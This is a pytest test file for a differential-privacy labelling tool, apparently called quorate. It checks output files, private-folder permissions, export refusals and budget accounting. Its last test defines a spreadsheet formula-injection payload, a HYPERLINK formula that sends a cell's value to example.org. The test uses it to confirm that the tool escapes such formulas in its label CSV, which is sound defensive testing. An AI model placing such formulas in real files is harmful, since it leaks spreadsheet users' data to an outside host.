@@ -1,0 +1,441 @@
+"""A run on a user's own CSV files: what is written, who may read it, and what leaves."""
+
+from __future__ import annotations
+
+import csv
+import json
+import stat
+import sys
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+import pytest
+
+from quorate.accounting import Guarantee
+from quorate.deferred import skops
+from quorate.errors import DataRefused, InvalidParameter, PreconditionFailed, SeededNoiseRefused, act
+from quorate.export.package import export_files
+from quorate.folder import batch as batch_module
+from quorate.folder import published
+from quorate.folder.batch import check, execute, load_run, publish
+from quorate.folder.folder import RunFolder
+from quorate.folder.prepared import outputs, unit_word
+from quorate.ledger import Ledger
+from quorate.report import Facts
+from quorate.types import Secret
+
+PUBLIC = {"labels.csv", "guarantee.json", "facts.json", "model_card.md", "report.html", "student.skops"}
+
+
+def run(root: Path) -> Facts:
+    return execute(load_run(root), command=f"quorate run {root}")
+
+
+def labels(root: Path) -> list[dict[str, str]]:
+    with (root / "public" / "labels.csv").open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def mode(path: Path) -> int:
+    return stat.S_IMODE(path.stat().st_mode)
+
+
+@pytest.fixture
+def finished(finished_run: Any) -> Path:
+    root: Path = finished_run(**{"data.evaluation": "evaluation.csv"})
+    return root
+
+
+@pytest.mark.heavy
+def test_a_run_on_a_users_own_csv_writes_all_its_outputs(finished: Path) -> None:
+    assert {path.name for path in (finished / "public").iterdir()} == PUBLIC
+    guarantee = Guarantee.from_json((finished / "public" / "guarantee.json").read_text())
+    assert 3.99 < guarantee.epsilon <= 4.0
+    assert (guarantee.delta, guarantee.unit) == (1e-5, "record")
+    facts = Facts.from_json((finished / "public" / "facts.json").read_text())
+    assert facts.guarantee == guarantee
+    assert facts.utility.student is not None
+    shown = pl.read_csv(finished / "evaluation.csv")
+    student = skops.io.load(finished / "public" / "student.skops")
+    right = student.predict(shown.drop("ill")) == shown["ill"].to_numpy()
+    assert facts.utility.student.accuracy == pytest.approx(right.mean())  # of secret noise: it may be any number
+    rows = labels(finished)
+    assert len(rows) == facts.answers.asked == 150
+    assert {row["label"] for row in rows} <= {"no", "yes"}
+    assert {row["status"] for row in rows} == {"answered"}
+    with Ledger(finished / "ledger.db") as ledger:
+        assert ledger.spent.epsilon == guarantee.epsilon
+        assert len(ledger.reservations()) == 1
+
+
+@pytest.mark.heavy
+def test_the_private_side_is_readable_by_its_owner_alone(finished: Path) -> None:
+    assert mode(finished / "private") == 0o700
+    kept = [path for path in finished.rglob("*") if path.is_file() and path.parent.name == "private"]
+    beside = [finished / name for name in ("ledger.db", "ledger.db.key", "ledger.db.anchor")]
+    assert {"run.key", "votes.stage"} <= {path.name for path in kept}
+    assert {mode(path) for path in [*kept, *beside]} == {0o600}
+
+
+def test_an_open_private_folder_is_closed_before_anything_is_written_there(make_run: Any) -> None:
+    root = make_run()
+    (root / "private").mkdir(mode=0o777)
+    (root / "private").chmod(0o777)
+    load_run(root)
+    assert mode(root / "private") == 0o700
+
+
+@pytest.mark.heavy
+def test_nothing_private_lies_on_the_public_side(finished: Path) -> None:
+    written = b"".join(path.read_bytes() for path in sorted((finished / "public").iterdir()))
+    keys = [(finished / "private" / "run.key").read_bytes(), (finished / "ledger.db.key").read_bytes()]
+    secrets = [form for key in keys for form in (key, key.hex().encode())]
+    bmi = pl.read_csv(finished / "private.csv")["bmi"].to_list()
+    ours = set(pl.read_csv(finished / "public.csv")["bmi"].to_list())
+    secrets += [str(each).encode() for each in bmi if len(str(each)) == 6 and each not in ours]
+    assert len(secrets) > 200
+    assert [secret for secret in secrets if secret in written] == []
+
+
+@pytest.mark.heavy
+def test_running_a_finished_run_again_charges_and_draws_nothing(finished: Path) -> None:
+    before, entries = labels(finished), _entries(finished)
+    run(finished)
+    assert labels(finished) == before
+    assert _entries(finished) == entries
+
+
+@pytest.mark.heavy
+def test_another_student_learns_from_the_same_labels_at_no_charge(finished: Path) -> None:
+    before, entries = labels(finished), _entries(finished)
+    settings = finished / "quorate.toml"
+    settings.write_text(settings.read_text() + '\n[student]\nmodel = "forest"\n')
+    assert run(finished).setup.student == "RandomForestClassifier"
+    assert labels(finished) == before
+    assert _entries(finished) == entries
+
+
+def _entries(root: Path) -> list[str]:
+    with Ledger(root / "ledger.db") as ledger:
+        return [entry["kind"] for entry in ledger.export()]
+
+
+@pytest.mark.heavy
+def test_a_teacher_of_ones_own_is_found_beside_the_settings(make_run: Any, cli: Any) -> None:
+    root = make_run(**{"teachers.model": "my_ward:teacher"})
+    (root / "my_ward.py").write_text(
+        "from sklearn.compose import make_column_transformer\n"
+        "from sklearn.pipeline import make_pipeline\n"
+        "from sklearn.preprocessing import FunctionTransformer, OneHotEncoder\n"
+        "from sklearn.tree import DecisionTreeClassifier\n"
+        "def as_it_is(frame):\n    return frame\n"
+        "def teacher():\n"
+        "    read = make_column_transformer((OneHotEncoder(handle_unknown='ignore'), ['ward']),\n"
+        "                                   (FunctionTransformer(as_it_is), ['age', 'bmi']))\n"
+        "    return make_pipeline(read, DecisionTreeClassifier(max_depth=3))\n"
+    )
+    code, told, wrong = cli("run", root, "--json")
+    assert code == 0, wrong
+    facts = Facts.from_json(told)
+    assert facts.setup.teacher == "ColumnTransformer → DecisionTreeClassifier"
+    assert facts.answers.answered == 150
+
+
+@pytest.mark.default_cases(2)
+@pytest.mark.parametrize("code", ["raise RuntimeError('no licence')", "import no_such_module", "teacher = 3", "pass"])
+def test_a_teacher_that_cannot_be_made_is_one_line(make_run: Any, code: str) -> None:
+    root = make_run(**{"teachers.model": "broken_ward:teacher"})
+    (root / "broken_ward.py").write_text(f"{code}\n")
+    sys.modules.pop("broken_ward", None)
+    with pytest.raises(InvalidParameter, match=r"teacher model 'broken_ward:teacher' could not be made"):
+        load_run(root)
+
+
+@pytest.mark.heavy
+def test_people_have_all_their_rows_with_one_teacher(make_run: Any) -> None:
+    root = make_run(**{"data.unit": "patient_id"})
+    batch = load_run(root)
+    assert batch.task.neighbouring.stated == "add, remove or replace one patient"
+    assert len(set(batch.task.inputs.private.reveal().unit_keys)) == 200
+    assert run(root).guarantee.unit == "patient"
+
+
+def test_a_column_that_numbers_records_is_no_clash_with_the_word_record() -> None:
+    assert unit_word("record_id") == "record id"
+
+
+# --- checking -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.heavy
+def test_check_says_what_a_run_will_do_and_touches_no_budget(make_run: Any) -> None:
+    root = make_run(**{"mechanism.online_answers": 20})
+    found = check(load_run(root))
+    assert not (root / "ledger.db").exists()
+    facts = run(root)
+    assert found["n_teachers"] == facts.setup.n_teachers == 12
+    assert found["n_queries"] == facts.answers.asked
+    assert found["online_answers"] == facts.spending.answers_left == 20
+    assert found["epsilon"] >= facts.guarantee.epsilon > found["epsilon"] - 0.01
+    assert found["delta"] == facts.guarantee.delta
+
+
+@pytest.mark.heavy
+def test_check_refuses_a_ledger_that_was_deleted_while_its_anchor_stands(make_run: Any) -> None:
+    from quorate.errors import LedgerIntegrityError
+
+    root = make_run()
+    run(root)
+    (root / "ledger.db").unlink()
+    with pytest.raises(LedgerIntegrityError, match="deleted"):
+        check(load_run(root))
+
+
+def test_evaluation_rows_are_looked_at_before_anything_is_charged(make_run: Any) -> None:
+    root = make_run(**{"data.evaluation": "evaluation.csv"})
+    table = pl.read_csv(root / "evaluation.csv")
+    table.with_columns(pl.lit("maybe").alias("ill")).write_csv(root / "evaluation.csv")
+    with pytest.raises(DataRefused, match="outside classes"):
+        load_run(root)
+    table.drop("bmi").write_csv(root / "evaluation.csv")
+    with pytest.raises(DataRefused, match="'bmi'"):
+        load_run(root)
+    assert not (root / "ledger.db").exists()
+
+
+@pytest.mark.default_cases(1)
+@pytest.mark.parametrize("disguise", ["same file", "copy", "shuffled", "other labels"])
+def test_the_private_table_is_no_evaluation_table(make_run: Any, disguise: str) -> None:
+    root = make_run(**{"data.evaluation": "private.csv" if disguise == "same file" else "evaluation.csv"})
+    private = pl.read_csv(root / "private.csv")
+    if disguise != "same file":
+        rows = private if disguise == "copy" else private.sample(fraction=1.0, shuffle=True, seed=4)
+        if disguise == "other labels":
+            rows = rows.head(40).with_columns(ill=pl.lit("no"))
+        rows.write_csv(root / "evaluation.csv")
+    with pytest.raises(DataRefused, match="evaluation holds the private rows again"):
+        load_run(root)
+
+
+@pytest.mark.default_cases(1)
+@pytest.mark.parametrize("ours", [30, 390])
+def test_private_rows_among_others_are_no_evaluation_table(make_run: Any, ours: int) -> None:
+    root = make_run(**{"data.evaluation": "evaluation.csv"})
+    shown = pl.read_csv(root / "evaluation.csv")
+    load_run(root)
+    mixed = pl.concat([shown, pl.read_csv(root / "private.csv").head(ours)]).sample(fraction=1.0, shuffle=True, seed=5)
+    mixed.select("ward", "ill", "bmi", "age").write_csv(root / "evaluation.csv")
+    with pytest.raises(DataRefused, match="or some of them"):
+        load_run(root)
+
+
+def test_the_report_says_whose_word_it_is_that_the_rows_measured_on_are_public(finished: Path) -> None:
+    assert "is the owner&#x27;s word" in (finished / "public" / "report.html").read_text().replace("'", "&#x27;")
+
+
+# --- leaving the building -------------------------------------------------------------------------------------------
+
+
+def test_an_export_holds_the_public_side_with_its_sums(finished: Path, tmp_path: Path) -> None:
+    from hashlib import sha256
+
+    written = export_files(finished, tmp_path / "outbox")
+    assert {path.name for path in written} == PUBLIC | {"manifest.json"}
+    sums = json.loads((tmp_path / "outbox" / "manifest.json").read_text())["sha256"]
+    assert sums == {name: sha256((tmp_path / "outbox" / name).read_bytes()).hexdigest() for name in sorted(PUBLIC)}
+
+
+def test_an_export_takes_no_file_along_that_a_crash_left_half_written(finished: Path, tmp_path: Path) -> None:
+    (finished / "public" / ".labels.csv.77.part").write_text("half")
+    assert {path.name for path in export_files(finished, tmp_path / "outbox")} == PUBLIC | {"manifest.json"}
+
+
+def test_an_export_into_a_folder_that_holds_something_is_refused(finished: Path, tmp_path: Path) -> None:
+    (tmp_path / "outbox").mkdir()
+    (tmp_path / "outbox" / "notes.txt").write_text("mine")
+    with pytest.raises(PreconditionFailed, match="is not empty; choose a new folder"):
+        export_files(finished, tmp_path / "outbox")
+
+
+@pytest.mark.parametrize("side", ["private", "public"])
+def test_an_export_onto_a_side_of_the_boundary_is_refused(finished: Path, tmp_path: Path, cli: Any, side: str) -> None:
+    (tmp_path / "link").symlink_to(finished / side)
+    before = sorted(finished.rglob("*"))
+    for place in (finished / side / "x", finished / side / "a" / "b", tmp_path / "link" / "x"):
+        for kind in ("files", "tre"):
+            code, _, said = cli("export", finished, "--to", place, "--format", kind)
+            assert code == 4
+            assert f"lies in {finished / side}, which holds" in said
+    assert sorted(finished.rglob("*")) == before
+    assert cli("export", finished, "--to", finished / "outbox")[0] == 0  # beside them it stands by itself
+
+
+def test_a_run_that_has_not_finished_is_not_exported(make_run: Any, tmp_path: Path) -> None:
+    with pytest.raises(PreconditionFailed, match="no finished run yet"):
+        export_files(make_run(), tmp_path / "outbox")
+
+
+@pytest.mark.heavy
+def test_a_public_side_of_which_a_file_is_missing_does_not_count_as_finished(
+    make_run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whichever write the process dies at, there is nothing to export until the same command was run again."""
+    root = make_run()
+    real, written = published.write_atomically, []
+
+    def dies_at_the(number: int) -> Any:
+        def write(path: Path, content: bytes, **mode: Any) -> None:
+            written.append(path.name)
+            if len(written) == number:
+                raise KeyboardInterrupt
+            real(path, content, **mode)
+
+        return write
+
+    for number in range(1, len(PUBLIC) + 2):  # the sums come first
+        written.clear()
+        monkeypatch.setattr(published, "write_atomically", dies_at_the(number))
+        with pytest.raises(KeyboardInterrupt):
+            run(root)
+        with pytest.raises(PreconditionFailed, match="no finished run yet"):
+            export_files(root, tmp_path / "outbox")
+    monkeypatch.undo()
+    run(root)
+    assert len(export_files(root, tmp_path / "outbox")) == len(PUBLIC) + 1
+
+
+@pytest.mark.heavy
+def test_a_seeded_run_says_so_on_everything_and_does_not_leave(make_run: Any, tmp_path: Path) -> None:
+    root = make_run(**{"run.unsafe_noise_seed": 3})
+    facts = run(root)
+    assert facts.seeded
+    public = root / "public"
+    assert {path.name for path in public.iterdir()} == PUBLIC - {"student.skops"}
+    for name in PUBLIC - {"student.skops"}:
+        assert "reproducible" in (public / name).read_text(encoding="utf-8"), name
+    with Ledger(root / "ledger.db") as ledger:
+        assert "no guarantee" in ledger.reservations()[0].client
+    assert outputs(RunFolder(root), next_command="").student == str(root / "private" / "student.skops")
+    with pytest.raises(SeededNoiseRefused, match="Remove unsafe_noise_seed"):
+        export_files(root, tmp_path / "outbox")
+    assert not (tmp_path / "outbox").exists()
+
+
+@pytest.mark.heavy
+def test_the_same_seed_gives_the_same_labels_and_another_one_does_not(make_run: Any) -> None:
+    roots = [make_run(name, **{"run.unsafe_noise_seed": seed}) for name, seed in (("a", 3), ("b", 3), ("c", 4))]
+    for root in roots:
+        run(root)
+    first, again, other = map(labels, roots)
+    assert first == again
+    assert first != other
+
+
+@pytest.mark.heavy
+def test_without_a_seed_two_runs_have_different_keys_and_noise(make_run: Any) -> None:
+    roots = [make_run(name) for name in ("a", "b")]
+    for root in roots:
+        run(root)
+    keys = [(root / "private" / "run.key").read_bytes() for root in roots]
+    assert keys[0] != keys[1]
+    assert labels(roots[0]) != labels(roots[1])
+
+
+@pytest.mark.heavy
+def test_a_student_that_cannot_be_written_says_that_the_labels_were_charged(
+    make_run: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = make_run()
+
+    def unwritable(student: object) -> bytes:
+        raise TypeError("a lock cannot be written")
+
+    with monkeypatch.context() as patch:
+        patch.setattr(skops.io, "dumps", unwritable)
+        with act(), pytest.raises(InvalidParameter, match="cannot be written by skops") as refusal:
+            run(root)
+    assert "stays charged" in str(refusal.value.charged)
+    entries = _entries(root)
+    run(root)
+    assert _entries(root) == entries
+
+
+@pytest.mark.heavy
+def test_a_stale_student_of_an_unseeded_run_does_not_lie_beside_seeded_labels(finished: Path) -> None:
+    batch = load_run(finished)
+    with batch.open_ledger() as ledger:
+        outcome = batch_module.run_pipeline(batch.task, ledger, key=batch.charge_key)
+        facts = batch_module.facts(
+            batch.task,
+            outcome,
+            ledger,
+            batch_module.RunMetadata(title="run", command="", started="2026-01-01T00:00:00+00:00"),
+        )
+    from dataclasses import replace
+
+    from quorate.noise import SeededNoise
+
+    seeded = replace(batch, task=replace(batch.task, noise=SeededNoise(1)))
+    publish(seeded, outcome, facts)
+    assert not (finished / "public" / "student.skops").exists()
+    assert mode(finished / "private" / "student.skops") == 0o600
+
+
+@pytest.mark.heavy
+def test_the_internal_edition_knows_every_margin_and_stays_secret(finished: Path) -> None:
+    from quorate.folder.internal import internal_facts
+
+    batch = load_run(finished)
+    told = internal_facts(batch)
+    assert isinstance(told, Secret)
+    assert sum(count for _, count in told.reveal().margins) == 150
+    assert sum(teacher.n_records for teacher in told.reveal().teachers) == 400
+    assert len(told.reveal().teachers) == 12
+    assert {teacher.status for teacher in told.reveal().teachers} == {"trained"}
+    curve = told.reveal().high_margin
+    assert [nu for _, nu in curve] == sorted(nu for _, nu in curve)
+    assert curve[-1] == (0.5, 1.0)
+    assert told.reveal().agreement.plurality > 0.8
+    assert 0 < told.reveal().stability.mean < 0.5
+    assert told.reveal().stability.n_records == 400 // 12
+
+
+@pytest.mark.heavy
+def test_a_budget_may_last_for_several_runs(make_run: Any) -> None:
+    """Each takes its share, and what both cost together stands in the second's guarantee."""
+    root = make_run(**{"run.epsilon": 1.5, "run.delta": 4e-6})
+    first = execute(load_run(root), command="first")
+    text = (root / "quorate.toml").read_text()
+    (root / "quorate.toml").write_text(text.replace("count = 12", "count = 13"))
+    second = execute(load_run(root), command="second")
+
+    assert first.guarantee.epsilon == pytest.approx(1.5, abs=1e-6)
+    assert second.guarantee.epsilon == pytest.approx(3.0, abs=1e-6)
+    assert second.guarantee.delta == pytest.approx(8e-6)
+    assert any("earlier runs" in caveat for caveat in second.guarantee.caveats)
+
+
+HOSTILE = "=HYPERLINK('http://example.org/?'&A1)"
+
+
+@pytest.mark.heavy
+def test_a_class_name_is_no_formula_in_the_file_of_labels(make_run: Any, cli: Any) -> None:
+    """Its reader is somebody with a spreadsheet; the file as it is written can be a run's evaluation again."""
+    root = make_run(**{"data.classes": ["+no", HOSTILE], "data.evaluation": "evaluation.csv"})
+    for name in ("private.csv", "evaluation.csv"):
+        table = pl.read_csv(root / name)
+        ill = pl.when(pl.col("ill") == "yes").then(pl.lit(HOSTILE)).otherwise(pl.lit("+no"))
+        table.with_columns(ill.alias("ill")).write_csv(root / name)
+    facts = execute(load_run(root), command="quorate run")
+    assert facts.setup.classes == ("+no", HOSTILE)
+    with (root / "public" / "labels.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert {row["label"] for row in rows} == {"'+no", f"'{HOSTILE}"}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell[:1] in "=@\t\r" or (cell[:1] in "+-" and not cell[1:].isdigit()) for cell in cells if cell)
+    public = pl.read_csv(root / "public.csv").with_row_index("row")
+    labels = pl.read_csv(root / "public" / "labels.csv").cast({"row": pl.UInt32})
+    again = public.join(labels.select("row", pl.col("label").alias("ill")), on="row").drop("row")
+    again.write_csv(root / "evaluation.csv")
+    assert load_run(root).evaluation is not None
